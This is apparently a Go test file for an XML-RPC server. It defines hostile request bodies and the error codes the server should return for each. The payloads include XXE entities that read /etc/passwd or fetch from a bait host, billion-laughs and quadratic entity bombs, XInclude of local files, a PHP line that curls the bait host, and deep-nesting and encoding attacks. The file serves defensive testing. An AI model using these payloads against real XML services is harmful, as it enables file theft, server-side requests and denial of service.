package main_test

import (
	"fmt"
	"strings"
	"unicode/utf16"
)

// post sends a document as a call.
func calls(doc string) sender { return raw(sized("", doc)) }

// makes sends a document that is made when it is needed.
func makes(doc func() string) sender { return made(func() string { return sized("", doc()) }) }

// test1 is a call of test with what is inside of a value.
func test1(inside string) string { return document("test", "<value>"+inside+"</value>") }

func doctypes(bait string) []hostile {
	ping := document("ping")
	subset := func(s string) string { return "<!DOCTYPE methodCall [" + s + "]>" }
	lol := `<!ENTITY lol0 "lol">`
	for i := range 9 {
		lol += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&lol%d;", i), 10))
	}
	quadratic := func() string {
		return subset(`<!ENTITY a "`+strings.Repeat("a", 100_000)+`">`) + test1("<string>"+strings.Repeat("&a;", 100_000)+"</string>")
	}
	refused := map[string]string{
		"plain":                  "<!DOCTYPE methodCall>" + ping,
		"system":                 `<!DOCTYPE methodCall SYSTEM "http://` + bait + `/a.dtd">` + ping,
		"public":                 `<!DOCTYPE methodCall PUBLIC "-//x//y" "http://` + bait + `/b.dtd">` + ping,
		"empty subset":           subset("") + ping,
		"after the declaration":  `<?xml version="1.0" encoding="UTF-8"?>` + "\n<!-- > --><!DOCTYPE methodCall>" + ping,
		"without a name":         "<!DOCTYPE>" + ping,
		"without an end":         "<!DOCTYPE methodCall [",
		"twice":                  "<!DOCTYPE a><!DOCTYPE b>" + ping,
		"in the root":            strings.Replace(ping, "<params>", "<!DOCTYPE a><params>", 1),
		"in a value":             test1("<string>a<!DOCTYPE a>b</string>"),
		"behind the root":        ping + "<!DOCTYPE a>",
		"in the method's name":   document("pi<!DOCTYPE a>ng"),
		"billion laughs":         subset(lol) + test1("&lol9;"),
		"parameter entities":     subset(`<!ENTITY % a "<!ENTITY b 'c'>">%a;`) + test1("&b;"),
		"parameter entity bomb":  subset(`<!ENTITY % a "x"><!ENTITY % b "%a;%a;"><!ENTITY % c "%b;%b;">%c;`) + ping,
		"entity of itself":       subset(`<!ENTITY a "&b;"><!ENTITY b "&a;">`) + test1("&a;"),
		"entity from the net":    subset(`<!ENTITY x SYSTEM "http://`+bait+`/x">`) + test1("&x;"),
		"entity from ftp":        subset(`<!ENTITY x SYSTEM "ftp://`+bait+`/x">`) + test1("&x;"),
		"entity from a file":     subset(`<!ENTITY x SYSTEM "file:///etc/passwd">`) + test1("&x;"),
		"parameter from the net": subset(`<!ENTITY % p SYSTEM "http://`+bait+`/p">%p;`) + ping,
		"attribute default":      subset(`<!ATTLIST methodCall a CDATA "b">`) + ping,
		"notation":               subset(`<!NOTATION n SYSTEM "http://`+bait+`/n">`) + ping,
	}
	cases := []hostile{
		{"X10", "subset of 8 MiB", makes(func() string { return subset(strings.Repeat(`<!ENTITY a "b">`, 500_000)) + ping }), "-32600 kept", "DOCTYPE"},
		{"X10", "quadratic blow-up", makes(quadratic), "-32600 kept", "DOCTYPE"},
		{"X10", "DOCTYPE in UTF-16", calls(utf16le("\ufeff<!DOCTYPE a>" + ping)), "-32600 kept", "DOCTYPE"},
		{"X10", "DOCTYPE in gzip", raw(sized("Content-Encoding: gzip\r\n", packed(subset(lol)+test1("&lol9;"), gzipper))), "-32600 kept", "DOCTYPE"},
		{"X6", "doctype in lower case", calls("<!doctype methodCall>" + ping), "-32700 kept", ""},
		{"X6", "ENTITY without DOCTYPE", calls(`<!ENTITY a "b">` + ping), "-32700 kept", ""},
		{"X9", "undeclared entity", calls(test1("&lol9;")), "-32700 kept", ""},
		{"X9", "undeclared entity in an attribute", calls(strings.Replace(ping, "<params", `<params a="&x;"`, 1)), "-32700 kept", ""},
		{"X9", "parameter entity", calls(test1("%a;")), "result kept", "%a;"},
		{"X13", "XInclude as a value", calls(test1(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://` + bait + `/i"/>`)), "-32600 kept", ""},
		{"X13", "XInclude of a file as a param", calls(strings.Replace(ping, "<params>", `<params><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`, 1)), "-32600 kept", ""},
		{"X10", "schema location", calls(strings.Replace(ping, "<methodCall", `<methodCall xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://`+bait+`/s.xsd" xsi:schemaLocation="a http://`+bait+`/t.xsd"`, 1)), "OK kept", ""},
		{"X10", "base", calls(strings.Replace(ping, "<methodCall", `<methodCall xml:base="http://`+bait+`/"`, 1)), "OK kept", ""},
		{"X10", "stylesheet", calls(`<?xml-stylesheet href="http://` + bait + `/s.xsl" type="text/xsl"?>` + ping), "OK kept", ""},
		{"X10", "script", calls(`<?php system("curl http://` + bait + `/")?>` + ping), "OK kept", ""},
	}
	for name, doc := range refused {
		cases = append(cases, hostile{"X10", "DOCTYPE " + name, calls(doc), "-32600 kept", "DOCTYPE"})
	}
	return cases
}

// deep is a call of test with open repeated, and never closed.
func deep(open string, n int) string {
	return "<methodCall><methodName>test</methodName><params><param><value>" + strings.Repeat(open, n)
}

// nested is a sound call of test with arrays and structs in turns.
func nested(n int) string {
	inside := ""
	for i := range n {
		if i%2 == 0 {
			inside = "<array><data><value>" + inside + "</value></data></array>"
		} else {
			inside = "<struct><member><name>a</name><value>" + inside + "</value></member></struct>"
		}
	}
	return test1(inside)
}

func depths() []hostile {
	const array, member = "<array><data><value>", "<struct><member><name>a</name><value>"
	return []hostile{
		{"L5", "128 deep", calls(nested(128)), "result kept", ""},
		{"L5", "129 deep", calls(nested(129)), "-32001 kept", "128"},
		{"L5", "8 MiB of arrays", makes(func() string { return deep(array, 400_000) }), "-32001 kept", ""},
		{"L5", "8 MiB of structs", makes(func() string { return deep(member, 200_000) }), "-32001 kept", ""},
		{"L5", "8 MiB of both", makes(func() string { return deep(array+member, 140_000) }), "-32001 kept", ""},
		{"L5", "8 MiB of arrays with attributes", makes(func() string { return deep("<array a='b'><data ><value\n>", 290_000) }), "-32001 kept", ""},
		{"L5", "arrays in system.multicall", makes(func() string { return strings.Replace(deep(array, 300_000), "test", "system.multicall", 1) }), "-32001 kept", ""},
		{"L5", "arrays for an unknown method", makes(func() string { return strings.Replace(deep(array, 300_000), "test", "no.such", 1) }), "-32001 kept", ""},
		{"L5", "arrays for a method without params", makes(func() string { return strings.Replace(deep(array, 300_000), "test", "relay.get_satellites", 1) }), "-32001 kept", ""},
		{"L5", "arrays in an ignored member", makes(func() string {
			return strings.Replace(deep(member+array, 1)+strings.Repeat(array, 300_000), "test", "relay.register", 1)
		}), "-32001 kept", ""},
		{"S6", "8 MiB of unknown elements", makes(func() string { return deep("<a>", 2_700_000) }), "-32600 kept", "&lt;a&gt;"},
		{"S5", "8 MiB of values", makes(func() string { return deep("<value>", 1_000_000) }), "-32600 kept", ""},
		{"S1", "8 MiB of roots", makes(func() string { return strings.Repeat("<methodCall>", 600_000) }), "-32600 kept", ""},
		{"S2", "8 MiB in the method's name", makes(func() string { return "<methodCall><methodName>" + strings.Repeat("<b>", 2_000_000) }), "-32600 kept", ""},
		{"S7", "8 MiB of end tags", makes(func() string { return strings.Repeat("</methodCall>", 600_000) }), "-32700 kept", ""},
		{"X6", "8 MiB of <", makes(func() string { return strings.Repeat("<", 8<<20) }), "-32700 kept", ""},
	}
}

// utf16le is s in UTF-16, little end first.
func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// utf32le is s in UTF-32, little end first.
func utf32le(s string) string {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8), byte(r>>16), 0)
	}
	return string(b)
}

func encodings() []hostile {
	ping := document("ping")
	declared := func(name string) string { return `<?xml version="1.0" encoding="` + name + `"?>` + ping }
	charset := func(name, doc string) sender {
		return raw(strings.Replace(sized("", doc), "text/xml", "text/xml; charset="+name, 1))
	}
	var cases []hostile
	for _, name := range []string{
		"x-klingon", "UTF-7", "UTF-32", "UTF-32LE", "ISO-10646-UCS-4", "EBCDIC-CP-US", "IBM037", "cp037", "GB18030", "Shift_JIS",
		"ISO-2022-JP", "UTF-8-MAC", "utf", "base64", "punycode", "rot13", "zlib", "idna", strings.Repeat("x", 41), strings.Repeat("utf-8", 2000),
	} {
		cases = append(cases,
			hostile{"X3", fmt.Sprintf("encoding %.20s", name), calls(declared(name)), "-32701 kept", ""},
			hostile{"X3", fmt.Sprintf("charset %.20s", name), charset(name, ping), "-32701 kept", ""})
	}
	return append(cases,
		hostile{"X3", "UTF-32 with a mark", calls("\xff\xfe\x00\x00" + utf32le(ping)), "-32701 kept", ""},
		hostile{"X3", "UTF-32, big end first, with a mark", calls("\x00\x00\xfe\xff\x00\x00\x00<"), "-32701 kept", ""},
		hostile{"X3", "UTF-32 without a mark", calls(utf32le(`<?xml version="1.0"?>` + ping)), "-32701 kept", ""},
		hostile{"X3", "EBCDIC", calls("\x4c\x6f\xa7\x94\x93\x40\xa5\x85\x99\xa2\x89\x96\x95\x7e\x7f\xf1\x4b\xf0\x7f\x6f\x6e"), "-32701 kept", ""},
		hostile{"X1", "UTF-7 text without its name", calls(test1("+ADw-script+AD4-")), "result kept", "+ADw-script+AD4-"},
		hostile{"X1", "mark against charset", charset("utf-16", "\ufeff"+ping), "OK kept", ""},
		hostile{"X1", "charset against declaration", charset("utf-8", declared("x-klingon")), "OK kept", ""},
		hostile{"X1", "two marks", calls("\ufeff\ufeff" + ping), "-32700 kept", ""},
		hostile{"X6", "mark alone", calls("\ufeff"), "-32700 kept", ""},
		hostile{"X6", "empty encoding name", calls(declared("")), "-32700 kept", ""},
		hostile{"X6", "encoding name with a NUL", calls(declared("utf-8\x00")), "-32700 kept", ""},
		hostile{"X4", "UTF-16 of odd length", calls(utf16le("\ufeff"+ping) + "\x00"), "-32702 kept", ""},
		hostile{"X4", "UTF-16 with a lone high surrogate", calls(utf16le("\ufeff"+strings.TrimSuffix(ping, ">")) + "\x3d\xd8" + utf16le(">")), "-32702 kept", ""},
		hostile{"X4", "UTF-16 with a lone low surrogate", calls(utf16le("\ufeff<!--") + "\x00\xde" + utf16le("-->"+ping)), "-32702 kept", ""},
		hostile{"X4", "UTF-16 with surrogates swapped", calls(utf16le("\ufeff<!--") + "\x00\xde\x3d\xd8" + utf16le("-->"+ping)), "-32702 kept", ""},
		hostile{"X4", "UTF-16 cut in a pair", calls(utf16le("\ufeff"+ping) + "\x3d\xd8"), "-32702 kept", ""},
		hostile{"X7", "UTF-16 with U+FFFF", calls(utf16le("\ufeff<!--\uffff-->" + ping)), "-32700 kept", ""},
		hostile{"X4", "windows-1252 with a hole", charset("cp1252", test1("\x81")), "-32702 kept", ""},
		hostile{"X2", "Latin-1 that looks like UTF-8", charset("iso-8859-1", test1("\xc3\xa9")), "result kept", "Ã©"},
	)
}
